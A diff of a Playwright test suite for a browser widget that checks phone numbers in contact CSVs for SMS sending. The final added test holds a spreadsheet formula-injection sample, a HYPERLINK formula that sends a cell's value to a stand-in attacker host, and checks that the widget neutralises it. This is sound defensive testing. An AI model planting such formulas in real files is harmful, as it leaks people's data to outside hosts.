@@ -6,27 +6,25 @@ Needs Chromium at /usr/bin/chromium; the tests fail (not skip) without it.
 
 from __future__ import annotations
 
-import io
 import re
 from pathlib import Path
 from typing import Any
 
 import pytest
-from playwright.sync_api import Browser, Locator, Page, expect
+from playwright.sync_api import Locator, Page, expect
 from playwright.sync_api import TimeoutError as PlaywrightTimeoutError
 
 from checkers import (
     MAX_CSV_BYTES,
-    PROBLEM_LABELS,
+    MAX_SHOWN_ROWS,
+    PROBLEM_KINDS,
     BinaryFileError,
     audit_csv,
     decode_csv_bytes,
-    fixed_csv_header,
-    fixed_csv_line,
 )
+from checkers import audit_file as checkers_audit
 from checkers.api import handle
-from macros._audit import MAX_PROBLEM_ROWS
-from tests.browser import BOOT_MS, CHROMIUM, axe_violations
+from tests.browser import BOOT_MS, axe_violations, widget_on
 
 pytestmark = [pytest.mark.browser, pytest.mark.slow]
 
@@ -47,20 +45,24 @@ CONTACTS = (
 
 
 def widget(page: Page) -> Locator:
-    return page.locator(f"article {WIDGET}").first
+    """The page's first number audit."""
+    return widget_on(page, "number-audit")
 
 
 def expected_audit(data: bytes, column: str, region: str = "GB") -> dict[str, Any]:
-    """What checkers says about the file: summary, problem rows and the fixed CSV."""
-    text = decode_csv_bytes(data)
-    audit = audit_csv(io.StringIO(text, newline=""), column, region)
-    fixed = [fixed_csv_header(audit)]
-    problem_rows = []
-    for row in audit.rows():
-        fixed.append(fixed_csv_line(row, audit))
-        if not row.check.ok:
-            problem_rows.append(row)
-    return {"summary": audit.summary, "rows": problem_rows, "fixed": "".join(fixed)}
+    """What checkers says about the file: summary, every problem row and the fixed CSV."""
+    result = checkers_audit(data, column, region)
+    every = list(audit_csv(decode_csv_bytes(data).splitlines(True), column, region).rows())
+    return {
+        "summary": result.summary,
+        "rows": [row for row in every if not row.check.ok],
+        "fixed": result.fixed_csv.decode("utf-8-sig"),
+        "result": result,
+    }
+
+
+def table_rows(page: Page, caption: str) -> Locator:
+    return widget(page).locator(f'.sms-widget__table[aria-label="{caption}"] tbody tr')
 
 
 def choose_file(page: Page, name: str, data: bytes, mime: str = "text/csv") -> None:
@@ -77,7 +79,7 @@ def wait_for_columns(page: Page) -> Locator:
 
 def run(page: Page) -> None:
     widget(page).get_by_role("button", name="Check the numbers").click()
-    expect(widget(page).locator(".number-audit__verdict")).to_be_visible(timeout=BOOT_MS)
+    expect(widget(page).locator('[data-part="verdict"]')).to_be_visible(timeout=BOOT_MS)
 
 
 def counts(page: Page) -> dict[str, int]:
@@ -100,15 +102,15 @@ def assert_shows(page: Page, expected: dict[str, Any]) -> None:
         "fixable": summary.sendable - summary.ok,
         "not_sendable": summary.not_sendable,
     }
-    problem_table = widget(page).locator("table.number-audit__counts tbody tr")
+    problem_table = table_rows(page, "Rows with each problem")
     expect(problem_table).to_have_count(len(summary.by_problem))
     for index, (code, rows) in enumerate(summary.by_problem.items()):
         cells = problem_table.nth(index).locator("td")
-        expect(cells.nth(0)).to_have_text(PROBLEM_LABELS[code])
+        expect(cells.nth(0)).to_have_text(PROBLEM_KINDS[code].label)
         expect(cells.nth(2)).to_have_text(code)
         expect(cells.nth(3)).to_have_text(f"{rows:,}")
-    shown = expected["rows"][:MAX_PROBLEM_ROWS]
-    row_table = widget(page).locator("table.number-audit__rows tbody tr")
+    shown = expected["rows"][:MAX_SHOWN_ROWS]
+    row_table = table_rows(page, "Rows with a problem")
     expect(row_table).to_have_count(len(shown))
     # One round trip for the whole table (it can hold hundreds of rows).
     cells = row_table.evaluate_all(
@@ -131,24 +133,6 @@ def audit_file(page: Page, name: str, data: bytes, column: str | None = None) ->
     run(page)
 
 
-def test_chromium_is_installed() -> None:
-    assert CHROMIUM.is_file(), f"Chromium is missing at {CHROMIUM}: apt-get install chromium"
-
-
-def test_without_javascript_the_controls_are_hidden(browser: Browser, site_url: str) -> None:
-    ctx = browser.new_context(base_url=site_url, java_script_enabled=False)
-    try:
-        page = ctx.new_page()
-        page.goto(PAGE)
-        box = widget(page)
-        expect(box.locator(".number-audit__fallback")).to_be_visible()
-        expect(box.locator(".number-audit__fallback")).to_contain_text("needs JavaScript")
-        expect(box.locator(".number-audit__controls")).to_be_hidden()
-        expect(page.locator("article")).to_contain_text("Your file stays on this computer")
-    finally:
-        ctx.close()
-
-
 def test_small_csv_gives_checkers_summary_and_problem_rows(page: Page) -> None:
     page.goto(PAGE)
     choose_file(page, "contacts.csv", CONTACTS)
@@ -162,11 +146,9 @@ def test_small_csv_gives_checkers_summary_and_problem_rows(page: Page) -> None:
     assert expected["summary"].not_sendable > 0
     assert expected["summary"].ok > 0
     assert_shows(page, expected)
-    outcome = widget(page).locator(".number-audit__outcome")
-    expect(outcome).to_have_text(
-        f"Checked {expected['summary'].rows} rows: {expected['summary'].sendable} can receive "
-        f"SMS, {expected['summary'].not_sendable} cannot."
-    )
+    outcome = widget(page).locator('[data-part="outcome"]')
+    expect(outcome).to_have_text(expected["summary"].outcome)
+    expect(widget(page).locator('[data-part="verdict"]')).to_have_text(expected["summary"].headline)
     expect(outcome).to_have_attribute("role", "status")
 
 
@@ -179,9 +161,9 @@ def test_another_column_and_region(page: Page) -> None:
     expected = expected_audit(CONTACTS, "Home phone", "IE")
     assert expected["summary"].by_problem != expected_audit(CONTACTS, "Mobile")["summary"]
     assert_shows(page, expected)
-    expect(widget(page).locator("table.number-audit__rows th").nth(1)).to_have_text(
-        "Home phone as stored"
-    )
+    expect(
+        widget(page).locator('.sms-widget__table[aria-label="Rows with a problem"] th').nth(1)
+    ).to_have_text("Home phone as stored")
 
 
 def test_semicolon_separated_cp1252_file(page: Page) -> None:
@@ -194,7 +176,7 @@ def test_semicolon_separated_cp1252_file(page: Page) -> None:
     page.goto(PAGE)
     choose_file(page, "export.csv", data)
     expect(wait_for_columns(page)).to_have_value("Téléphone portable")
-    expect(widget(page).locator(".number-audit__outcome")).to_contain_text(
+    expect(widget(page).locator('[data-part="outcome"]')).to_contain_text(
         "semicolon-separated, Windows (cp1252)"
     )
     run(page)
@@ -231,37 +213,69 @@ def test_binary_file_gives_a_plain_message(page: Page, name: str, data: bytes) -
         decode_csv_bytes(data)
     page.goto(PAGE)
     choose_file(page, name, data, mime="application/octet-stream")
-    message = widget(page).locator(".number-audit__error")
+    message = widget(page).locator('[data-part="error"]')
     expect(message).to_have_text(f"Error: {error.value}", timeout=BOOT_MS)
     expect(widget(page).get_by_role("button", name="Check the numbers")).to_be_disabled()
 
 
-@pytest.mark.parametrize(
-    "data",
-    [
-        b'Name,Mobile\r\nJane,"07400 123456\r\nJoe,0121 234 5678\r\n',
-        b"",
-    ],
-    ids=["unbalanced-quote", "empty"],
-)
-def test_malformed_or_empty_csv_gives_a_plain_message(page: Page, data: bytes) -> None:
-    reply = handle({"op": "csv_columns", "data": data})
+def test_an_empty_csv_gives_a_plain_message(page: Page) -> None:
+    reply = handle({"op": "csv_columns", "data": b""})
     assert reply["ok"] is False
     page.goto(PAGE)
-    choose_file(page, "contacts.csv", data)
-    expect(widget(page).locator(".number-audit__error")).to_have_text(
+    choose_file(page, "contacts.csv", b"")
+    expect(widget(page).locator('[data-part="error"]')).to_have_text(
         f"Error: {reply['error']}", timeout=BOOT_MS
     )
-    expect(widget(page).locator(".number-audit__outcome")).to_contain_text(reply["error"])
+    expect(widget(page).locator('[data-part="outcome"]')).to_contain_text(reply["error"])
 
 
 def test_unbalanced_quote_names_the_line(page: Page) -> None:
     data = b'Name,Mobile\r\nJane,07400 123456\r\nJoe,"0121 234 5678\r\nAnn,07400 654321\r\n'
     page.goto(PAGE)
     choose_file(page, "contacts.csv", data)
-    expect(widget(page).locator(".number-audit__error")).to_contain_text(
-        "Line 3 of the CSV cannot be read", timeout=BOOT_MS
+    wait_for_columns(page)
+    widget(page).get_by_role("button", name="Check the numbers").click()
+    expect(widget(page).locator('[data-part="error"]')).to_contain_text(
+        "Error: Line 3 of the CSV cannot be read", timeout=BOOT_MS
     )
+    expect(widget(page).locator('[data-part="download"]')).to_be_hidden()
+
+
+def test_a_huge_header_gets_a_plain_message_fast_without_freezing_the_page(page: Page) -> None:
+    page.goto(PAGE)
+    expect(widget(page)).to_have_attribute("data-state", "ready", timeout=BOOT_MS)
+    # 9.5 million columns in 19 MB, made in the page first (as a reader's file would be).
+    page.evaluate(
+        """() => {
+            const header = new TextEncoder().encode("a,".repeat(9_500_000) + "\\n");
+            window.__wide = new DataTransfer();
+            window.__wide.items.add(new File([header], "wide.csv", { type: "text/csv" }));
+        }"""
+    )
+    page.wait_for_timeout(200)
+    page.evaluate(
+        """() => {
+          window.__long = [];
+          new PerformanceObserver((list) => {
+            for (const entry of list.getEntries()) window.__long.push(entry.duration);
+          }).observe({ type: "longtask" });
+        }"""
+    )
+    started = page.evaluate("performance.now()")
+    widget(page).get_by_label(FILE_LABEL).evaluate(
+        """(input) => {
+            input.files = window.__wide.files;
+            input.dispatchEvent(new Event("change", { bubbles: true }));
+        }"""
+    )
+    message = widget(page).locator('[data-part="error"]')
+    expect(message).to_contain_text(
+        "or more columns; a contacts export has far fewer", timeout=10_000
+    )
+    took = page.evaluate("performance.now()") - started
+    assert took < 2_000, took
+    assert max(page.evaluate("window.__long"), default=0) < 200
+    expect(widget(page).get_by_label(COLUMN_LABEL).locator("option")).to_have_count(1)
 
 
 def test_a_file_over_the_limit_is_refused_with_the_limit(page: Page) -> None:
@@ -278,7 +292,7 @@ def test_a_file_over_the_limit_is_refused_with_the_limit(page: Page) -> None:
         }""",
         MAX_CSV_BYTES + 1,
     )
-    message = widget(page).locator(".number-audit__error")
+    message = widget(page).locator('[data-part="error"]')
     expect(message).to_contain_text(
         "This file is 20.1 MB; the checker takes files up to 20 MB", timeout=BOOT_MS
     )
@@ -297,7 +311,7 @@ def test_big_file_shows_the_progress_bar_moving(page: Page) -> None:
     wait_for_columns(page)
     page.evaluate(
         """selector => {
-            const bar = document.querySelector(selector + " .number-audit__bar");
+            const bar = document.querySelector(selector + ' [data-part="bar"]');
             window.__progress = [];
             new MutationObserver(() => window.__progress.push(
                 [bar.value, bar.getAttribute("aria-valuetext"), bar.closest("[hidden]") === null]
@@ -307,7 +321,7 @@ def test_big_file_shows_the_progress_bar_moving(page: Page) -> None:
     )
     widget(page).get_by_role("button", name="Check the numbers").click()
     expect(widget(page).get_by_role("button", name="Cancel")).to_be_visible()
-    expect(widget(page).locator(".number-audit__verdict")).to_be_visible(timeout=BOOT_MS)
+    expect(widget(page).locator('[data-part="verdict"]')).to_be_visible(timeout=BOOT_MS)
     seen = page.evaluate("window.__progress")
     between = [entry for entry in seen if 0 < entry[0] < 100]
     assert between, seen
@@ -319,8 +333,8 @@ def test_big_file_shows_the_progress_bar_moving(page: Page) -> None:
     expected = expected_audit(data, "Mobile")
     assert counts(page)["rows"] == rows
     assert_shows(page, expected)
-    expect(widget(page).locator(".number-audit__truncated")).to_contain_text(
-        f"Only the first {MAX_PROBLEM_ROWS} rows"
+    expect(widget(page).locator('[data-part="rows-note"]')).to_have_text(
+        f"{expected['result'].rows_note} The corrected CSV lists every row."
     )
 
 
@@ -331,15 +345,15 @@ def test_cancel_stops_a_long_check(page: Page) -> None:
     choose_file(page, "big.csv", data)
     wait_for_columns(page)
     widget(page).get_by_role("button", name="Check the numbers").click()
-    bar = widget(page).locator(".number-audit__bar")
+    bar = widget(page).locator('[data-part="bar"]')
     expect(bar).not_to_have_attribute("aria-valuetext", "0%, 0 rows checked", timeout=BOOT_MS)
     expect(bar).to_be_visible()
     _assert_no_violation_inside(page)  # the progress bar and Cancel button, while running
     widget(page).get_by_role("button", name="Cancel").click()
-    expect(widget(page).locator(".number-audit__outcome")).to_have_text(
+    expect(widget(page).locator('[data-part="outcome"]')).to_have_text(
         "Stopped. Nothing was changed."
     )
-    expect(widget(page).locator(".number-audit__verdict")).to_have_count(0)
+    expect(widget(page).locator('[data-part="verdict"]')).to_have_count(0)
     # Python restarts; the same file can be checked again afterwards.
     small = CONTACTS
     audit_file(page, "contacts.csv", small)
@@ -363,26 +377,11 @@ def test_markup_in_a_cell_is_shown_as_text(page: Page) -> None:
     data = f'Name,Mobile\r\n<b>Jo</b>,"{typed}"\r\n'.encode()
     page.goto(PAGE)
     audit_file(page, "contacts.csv", data)
-    cell = widget(page).locator("table.number-audit__rows tbody td").nth(1)
+    cell = table_rows(page, "Rows with a problem").locator("td").nth(1)
     expect(cell).to_have_text(typed)
     assert widget(page).locator("script").count() == 0
     assert widget(page).locator("b").count() == 0
     page.wait_for_timeout(300)  # a dialog, if one fired, is caught by the page fixture
-
-
-def test_failure_state_when_python_cannot_load(page: Page) -> None:
-    page.route("**/assets/pyodide/**", lambda route: route.abort())
-    page.goto(PAGE)
-    status = widget(page).locator(".number-audit__status")
-    expect(status).to_contain_text("The checker could not start:", timeout=BOOT_MS)
-    retry = widget(page).get_by_role("button", name="Retry")
-    expect(retry).to_be_visible()
-    expect(page.locator("article")).to_contain_text("Your file stays on this computer")
-    page.unroute("**/assets/pyodide/**")
-    retry.click()
-    expect(retry).to_be_hidden()
-    audit_file(page, "contacts.csv", CONTACTS)
-    assert_shows(page, expected_audit(CONTACTS, "Mobile"))
 
 
 def test_keyboard_only(page: Page, tmp_path: Path) -> None:
@@ -415,7 +414,7 @@ def test_keyboard_only(page: Page, tmp_path: Path) -> None:
     tab_to(column)
     tab_to(widget(page).get_by_role("button", name="Check the numbers"))
     page.keyboard.press("Enter")
-    expect(widget(page).locator(".number-audit__verdict")).to_be_visible(timeout=BOOT_MS)
+    expect(widget(page).locator('[data-part="verdict"]')).to_be_visible(timeout=BOOT_MS)
     assert_shows(page, expected_audit(CONTACTS, "Mobile"))
     save = widget(page).get_by_role("button", name="Download corrected CSV")
     tab_to(save)
@@ -436,7 +435,7 @@ def test_axe_finds_no_violation_with_results_shown(page: Page) -> None:
     audit_file(page, "contacts.csv", CONTACTS)
     _assert_no_violation_inside(page)
     choose_file(page, "bad.xlsx", b"PK\x03\x04" + bytes(200))
-    expect(widget(page).locator(".number-audit__error")).to_be_visible(timeout=BOOT_MS)
+    expect(widget(page).locator('[data-part="error"]')).to_be_visible(timeout=BOOT_MS)
     _assert_no_violation_inside(page)
 
 
@@ -454,3 +453,22 @@ def test_progress_bar_has_a_name_while_running(page: Page) -> None:
     expect(bar).to_have_attribute("max", "100")
     # Labelled for assistive technology (axe checks the rest while results are shown).
     expect(widget(page).get_by_label("Checking the numbers")).to_have_count(1)
+
+
+def test_cells_that_look_like_formulas_are_made_text_and_the_page_says_so(
+    page: Page, tmp_path: Path
+) -> None:
+    data = b'Name,Mobile\r\n"=HYPERLINK(""http://evil.example/?""&A2,""x"")",07400 123456\r\n'
+    page.goto(PAGE)
+    audit_file(page, "contacts.csv", data)
+    expected = expected_audit(data, "Mobile")
+    note = widget(page).locator('[data-part="formulas"]')
+    expect(note).to_have_text(str(expected["result"].formulas_note))
+    expect(note).to_contain_text("1 cell that looked like a formula was made plain text")
+    with page.expect_download() as info:
+        widget(page).get_by_role("button", name="Download corrected CSV").click()
+    target = tmp_path / "fixed.csv"
+    info.value.save_as(target)
+    text = target.read_bytes().decode("utf-8-sig")
+    assert text.splitlines()[1].startswith('"\'=HYPERLINK(')
+    assert text == expected["fixed"]
